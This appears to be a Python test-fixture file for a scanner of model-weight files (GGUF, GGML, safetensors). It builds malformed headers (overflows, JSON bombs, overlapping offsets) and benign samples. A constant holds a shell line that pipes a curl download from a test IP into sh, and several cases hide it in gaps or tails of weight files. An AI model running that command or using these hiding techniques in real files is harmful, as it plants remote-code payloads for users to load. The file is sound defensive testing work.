"""Evasions and honest files: headers of GGUF, GGML and safetensors."""

import json
import struct
from collections.abc import Callable

from tests.samples import ggml_file, safetensors_file
from tests.samples.case import HARD, NOT_CLEAN, Case
from tests.samples.gguf_file import ARRAY, BOOL, F32, STRING, U8, U16, U32, U64, GgufFile, Raw, floats, small
from tests.samples.safetensors_file import raw

CLEAN = frozenset({"clean"})
SHELL = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"


def _gguf(name: str, file: Callable[[], GgufFile], expect: frozenset[str] = HARD, lesson: str = "") -> Case:
    return Case(
        id=f"weights/gguf-{name}",
        build=lambda: {"model.gguf": file().build()},
        subject="model.gguf",
        expect=expect,
        lesson=lesson or "llama.cpp GGUF header overflows (pull request 19856)",
    )


def _safetensors(name: str, content: Callable[[], bytes], expect: frozenset[str] = HARD, lesson: str = "") -> Case:
    return Case(
        id=f"weights/safetensors-{name}",
        build=lambda: {"model.safetensors": content()},
        subject="model.safetensors",
        expect=expect,
        lesson=lesson or "header and data disagree",
    )


def _entry(dtype: str, shape: list, begin: int, end: int) -> dict:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def _cut(content: bytes, length: int) -> dict[str, bytes]:
    return {"model.bin": content[:length]}


GGUF_EVASIONS = (
    _gguf("tensor-count-overflow", lambda: small(tensor_count=(1 << 64) - 1)),
    _gguf("key-count-overflow", lambda: small(key_count=(1 << 63) + 1)),
    _gguf("string-length-overflow", lambda: small(("x", STRING, Raw(struct.pack("<Q", (1 << 64) - 8))))),
    _gguf("array-length-overflow", lambda: small(("x", ARRAY, Raw(struct.pack("<IQ", U64, (1 << 61) + 1))))),
    _gguf("array-of-strings-bomb", lambda: small(("x", ARRAY, Raw(struct.pack("<IQ", STRING, 1 << 40))))),
    _gguf("nested-arrays", lambda: small(("x", ARRAY, Raw(struct.pack("<IQ", ARRAY, 1) * 50 + bytes(64))))),
    _gguf("dimension-overflow", lambda: small(tensors=[("t", (1 << 33, 1 << 33), 0, floats(1))])),
    _gguf("many-dimensions", lambda: small(tensors=[("t", (1,) * 200, 0, floats(1))])),
    _gguf("unknown-tensor-type", lambda: small(tensors=[("t", (4,), 0x7FFFFFFF, floats(4))])),
    _gguf("unknown-value-type", lambda: small(("x", 13, Raw(bytes(8))))),
    _gguf("overlapping-tensors", lambda: small(offsets={"output_norm.weight": 0})),
    _gguf("hidden-gap", lambda: small(offsets={"output_norm.weight": 128 + 256 + 4096}, tail=SHELL + bytes(8192))),
    _gguf("offset-beyond-file", lambda: small(offsets={"output_norm.weight": 1 << 62})),
    _gguf("misaligned", lambda: small(offsets={"output_norm.weight": 128 + 256 + 4})),
    _gguf("zero-alignment", lambda: small(("general.alignment", U32, 0))),
    _gguf("odd-alignment", lambda: small(("general.alignment", U32, 7))),
    _gguf("huge-alignment", lambda: small(("general.alignment", U32, 1 << 31))),
    _gguf("duplicate-key", lambda: small(("general.license", STRING, "mit"))),
    _gguf("duplicate-tensor", lambda: small(tensors=[("t", (8,), 0, floats(8)), ("t", (8,), 0, floats(8))])),
    _gguf("payload-behind-tensors", lambda: small(tail=SHELL * 20)),
    _gguf("truth-value", lambda: small(("x", BOOL, Raw(b"\xff")))),
    _gguf("key-with-line-feed", lambda: small(("general.name\nx", U8, 1))),
    _gguf("version-that-is-not", lambda: small(version=4096)),
    _gguf("split-number", lambda: small(("split.no", U16, 9), ("split.count", U16, 2))),
    _gguf("partial-block", lambda: small(tensors=[("t", (33,), 2, bytes(64))])),
    _gguf("fork-type", lambda: small(tensors=[("t", (256,), 140, bytes(128))]), frozenset({"incomplete"})),
    _gguf("quantization-lie", lambda: small(("general.file_type", U32, 10)), frozenset({"review"}), "mislabeled"),
    Case(
        id="weights/gguf-truncated-header",
        build=lambda: _cut(small().build(), 200),
        subject="model.bin",
        expect=NOT_CLEAN,
        lesson="a short file is never clean",
    ),
    Case(
        id="weights/gguf-truncated-data-renamed",
        build=lambda: _cut(small().build(), len(small().build()) - 64),
        subject="model.bin",
        expect=NOT_CLEAN,
        lesson="a short file is never clean, whatever its name",
    ),
    Case(
        id="weights/gguf-text-under-the-name",
        build=lambda: {"model.gguf": b"<html>404 not found</html>"},
        subject="model.gguf",
        expect=NOT_CLEAN,
        lesson="a name promises what the content is not",
    ),
    Case(
        id="weights/ggml-payload-behind-tensors",
        build=lambda: {"ggml-model.bin": ggml_file.llama(tail=SHELL * 4)},
        subject="ggml-model.bin",
        expect=HARD,
        lesson="bytes that belong to nothing",
    ),
    Case(
        id="weights/ggml-vocabulary-overflow",
        build=lambda: {"ggml-model.bin": ggml_file.llama(vocabulary=0xFFFFFFF0)},
        subject="ggml-model.bin",
        expect=HARD,
        lesson="lengths beyond the file",
    ),
)

SAFETENSORS_EVASIONS = (
    _safetensors("header-length-overflow", lambda: raw('{"a":{"dtype":"U8"}}', length=(1 << 64) - 1)),
    _safetensors("header-length-100-mb", lambda: raw('{"__metadata__":{}}', length=100_000_001)),
    _safetensors(
        "duplicate-tensor",
        lambda: raw(
            '{"w":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"w":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}',
            bytes(4),
        ),
        lesson="loaders take the first or the last",
    ),
    _safetensors("duplicate-metadata", lambda: raw('{"__metadata__":{"license":"mit","license":"other"}}')),
    _safetensors(
        "duplicate-escaped",
        lambda: raw(
            '{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"\\u0077":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',
            b"x",
        ),
    ),
    _safetensors("hole", lambda: raw(json.dumps({"w": _entry("U8", [4], 64, 68)}), SHELL.ljust(64) + bytes(4))),
    _safetensors(
        "hole-between",
        lambda: raw(
            json.dumps({"a": _entry("U8", [4], 0, 4), "b": _entry("U8", [4], 64, 68)}),
            bytes(4) + SHELL.ljust(60) + bytes(4),
        ),
    ),
    _safetensors("tail", lambda: safetensors_file.small(data=bytes(48) + SHELL)),
    _safetensors(
        "overlap", lambda: raw(json.dumps({"a": _entry("U8", [8], 0, 8), "b": _entry("U8", [8], 4, 12)}), bytes(12))
    ),
    _safetensors(
        "same-bytes-twice",
        lambda: raw(json.dumps({"a": _entry("U8", [8], 0, 8), "b": _entry("I8", [8], 0, 8)}), bytes(8)),
    ),
    _safetensors("shape-too-large", lambda: raw(json.dumps({"a": _entry("F32", [1000], 0, 8)}), bytes(8))),
    _safetensors("shape-overflow", lambda: raw(json.dumps({"a": _entry("U8", [1 << 32, 1 << 32], 0, 0)}))),
    _safetensors("negative-offset", lambda: raw(json.dumps({"a": _entry("U8", [8], -8, 0)}), bytes(8))),
    _safetensors("reversed-offsets", lambda: raw(json.dumps({"a": _entry("U8", [8], 8, 0)}), bytes(8))),
    _safetensors("float-offsets", lambda: raw('{"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8.0]}}', bytes(8))),
    _safetensors(
        "offset-beyond-file",
        lambda: raw(
            json.dumps({"a": _entry("U8", [8], 0, 8), "b": _entry("U8", [8], 1 << 50, (1 << 50) + 8)}), bytes(8)
        ),
    ),
    _safetensors(
        "extra-payload-key",
        lambda: raw(json.dumps({"a": {**_entry("U8", [8], 0, 8), "__reduce__": "gASV" * 40}}), bytes(8)),
    ),
    _safetensors("metadata-object", lambda: raw(json.dumps({"__metadata__": {"a": {"b": 1}}}))),
    _safetensors("second-document", lambda: raw('{"__metadata__":{"a":"b"}} {"w":1}')),
    _safetensors("nested-bomb", lambda: raw('{"a":' + "[" * 200_000 + "]" * 200_000 + "}")),
    _safetensors("wide-bomb", lambda: raw('{"a":[' + "[]," * 900_000 + "[]]}")),
    _safetensors("long-number", lambda: raw('{"a":{"dtype":"U8","shape":[' + "9" * 9000 + '],"data_offsets":[0,8]}}')),
    _safetensors("not-utf-8", lambda: raw(b'{"__metadata__":{"a":"\xc3\x28"}}')),
    _safetensors("leading-blank", lambda: raw('  {"__metadata__":{"a":"b"}}')),
    _safetensors("single-quotes", lambda: raw("{'a': 1}")),
    _safetensors("unknown-type", lambda: raw(json.dumps({"a": _entry("F2_X", [8], 0, 2)}), bytes(2)), NOT_CLEAN),
    _safetensors("truncated", lambda: safetensors_file.small()[:-9], frozenset({"incomplete"})),
    _safetensors("empty-name-file", lambda: b"\x00" * 16, NOT_CLEAN),
    Case(
        id="weights/safetensors-renamed-with-tail",
        build=lambda: {"notes.txt": safetensors_file.small(data=bytes(48) + SHELL)},
        subject="notes.txt",
        expect=HARD,
        lesson="content decides, not the name",
    ),
)

EVASIONS = (*GGUF_EVASIONS, *SAFETENSORS_EVASIONS)


def _benign(name: str, file: str, content: Callable[[], bytes]) -> Case:
    return Case(id=f"weights/benign-{name}", build=lambda: {file: content()}, subject=file, expect=CLEAN)


BENIGN = (
    _benign("gguf", "tiny.gguf", lambda: small().build()),
    _benign("gguf-version-1", "tiny.gguf", lambda: small(version=1).build()),
    _benign("gguf-version-2", "tiny.gguf", lambda: small(version=2).build()),
    _benign("gguf-big-endian", "tiny.gguf", lambda: small(order=">").build()),
    _benign("gguf-without-name", "sha256-0123456789abcdef", lambda: small().build()),
    _benign(
        "gguf-adapter",
        "lora.gguf",
        lambda: small(("general.type", STRING, "adapter"), ("adapter.lora.alpha", F32, 16.0)).build(),
    ),
    _benign("gguf-part", "m-00001-of-00002.gguf", lambda: small(("split.no", U16, 0), ("split.count", U16, 2)).build()),
    _benign("gguf-vocabulary", "vocab.gguf", lambda: small(tensors=[]).build()),
    _benign("ggml", "ggml-model-q4_0.bin", ggml_file.llama),
    _benign("ggml-adapter", "ggml-adapter-model.bin", ggml_file.adapter),
    _benign("safetensors", "model.safetensors", safetensors_file.small),
    _benign("safetensors-empty", "empty.safetensors", lambda: raw('{"__metadata__":{"format":"pt"}}')),
    _benign("safetensors-renamed", "weights.dat", safetensors_file.small),
    _benign("safetensors-part", "model-00001-of-00002.safetensors", safetensors_file.small),
    _benign(
        "safetensors-trainer-metadata",
        "lora.safetensors",
        lambda: safetensors_file.small(
            **{"__metadata__": {"ss_tag_frequency": json.dumps({"a": {"b": 1}}), "modelspec.title": "T"}}
        ),
    ),
)
